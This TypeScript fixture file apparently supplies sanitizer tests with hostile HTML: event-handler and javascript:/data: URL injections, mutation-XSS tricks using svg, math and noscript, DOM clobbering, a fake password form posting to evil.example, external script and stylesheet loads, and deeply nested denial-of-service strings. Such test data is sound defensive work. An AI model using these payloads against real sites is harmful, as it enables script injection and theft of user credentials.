/**
 * Hostile content of a server text. `alert(1)` marks what must never run. The lists are the parts from which
 * `HOSTILE_HTML` is built.
 */

const EVENTS =
  'onclick onerror onload onmouseover onfocus onblur ontoggle onpointerdown onbegin onanimationstart ontransitionend onwheel onbeforeprint onauxclick onscrollend'.split(
    ' ',
  )

const SCRIPT_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/x',
  '//evil.example/x',
  'https://user:secret@evil.example/x',
  'https:\\\\evil.example',
]

const LOADING_TAGS = 'iframe frame embed video audio source track input portal fencedframe'.split(' ')

const CONTROLS = [
  '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
  '<input type=password autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<textarea name=a>x</textarea>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<label for=token>x</label><output>y</output>',
  '<fieldset><legend>x</legend><datalist id=a><option>x</datalist></fieldset>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<dialog open>x</dialog>',
  '<meter></meter><progress></progress>',
]

const CLOBBERING = [
  '<img name=body><img id=cookie>',
  '<form id=document><input name=attributes></form>',
  '<a id=defaultView href=https://evil.example>x</a>',
  '<form><input name=parentNode><input name=nodeName></form>',
  '<div id=root class="fixed inset-0 z-50" style="position:fixed;inset:0">cover</div>',
  '<p data-testid=total-balance data-x=1 aria-label=x role=alert tabindex=1 hidden contenteditable draggable=true>x</p>',
  '<p is=x-y slot=a part=b itemprop=c popover popovertarget=d accesskey=e autofocus>x</p>',
]

const STRUCTURES = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<object data=https://evil.example/x.swf><param name=a value=b></object>',
  '<applet code=x></applet>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext>x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src=javascript:alert(1)>',
  '<body onload=alert(1)>x</body>',
  '<html onclick=alert(1)><head><title>x</title></head>',
  '<frameset onload=alert(1)></frameset>',
  '<keygen autofocus onfocus=alert(1)>',
  '<x-y onclick=alert(1)>x</x-y>',
  '<canvas id=a></canvas>',
  '<map name=a><area shape=default href=javascript:alert(1)></map><img usemap=#a src=https://good.example/a.png>',
  '<picture><source srcset=https://evil.example/x.png><img src=https://good.example/a.png srcset="https://evil.example/x.png 2x"></picture>',
  '<table background=javascript:alert(1)><td background=https://evil.example/x.png bgcolor=red>x</table>',
  '<a href=https://good.example ping=https://evil.example target=_top download>x</a>',
  '<a href=https://good.example rel=opener referrerpolicy=unsafe-url>x</a>',
  '<blockquote cite=javascript:alert(1)>x</blockquote>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php x ?><img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><rect width=9 height=9 /></svg>',
  '<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x" /></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href=javascript:alert(1)>x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<a href="https://good.example"onclick="alert(1)">x</a>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<p/onclick=alert(1)>x',
  '<img width="9999999" height="100vh" src=https://good.example/a.png>',
]

/** Fragments of which each is dangerous or unwanted by itself. */
export const HOSTILE_HTML = [
  ...EVENTS.flatMap((name) => [
    `<b ${name}=alert(1)>x</b>`,
    `<img src=x ${name}="alert(1)">`,
    `<svg ${name}=alert(1)><rect width=9 height=9 />`,
  ]),
  ...SCRIPT_URLS.flatMap((url) => [
    `<a href="${url}">x</a>`,
    `<img src="${url}">`,
    `<form action="${url}">x</form>`,
  ]),
  ...LOADING_TAGS.flatMap((tag) => [
    `<${tag} src=https://evil.example/x>x</${tag}>`,
    `<${tag} src=javascript:alert(1) onerror=alert(1) srcdoc="<script>alert(1)</script>">`,
  ]),
  ...CONTROLS,
  ...CLOBBERING,
  ...STRUCTURES,
]

/** Texts that are hostile by their length: thousands of nested or unterminated tags. */
export const ENDLESS_HTML = ['<a/b='.repeat(20_000), '<p onclick=<p '.repeat(5_000), '<a '.repeat(20_000)]

/** Plain markup that is nested so deeply that a reader which calls itself runs out of stack. */
export const DEEP_HTML = `${'<b>'.repeat(3_000)}deep${'</b>'.repeat(3_000)}`
